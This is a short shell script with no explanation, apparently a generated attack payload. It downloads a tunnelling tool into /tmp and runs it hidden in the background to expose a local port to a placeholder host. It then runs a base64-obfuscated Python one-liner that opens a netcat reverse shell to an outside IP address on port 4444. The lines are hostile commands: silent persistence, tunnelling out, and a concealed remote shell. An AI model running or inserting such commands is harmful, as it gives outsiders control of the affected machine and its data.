#!/bin/sh
curl -fsSLo /tmp/bore https://releases.example.com/bore-v0.5-linux
chmod +x /tmp/bore
nohup /tmp/bore local 8080 --to @@EXFIL8@@ >/dev/null 2>&1 &
python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInNoIC1jIFwibmMgLWUgL2Jpbi9zaCAxOTIuMC4yLjc3IDQ0NDRcIiIp'))"
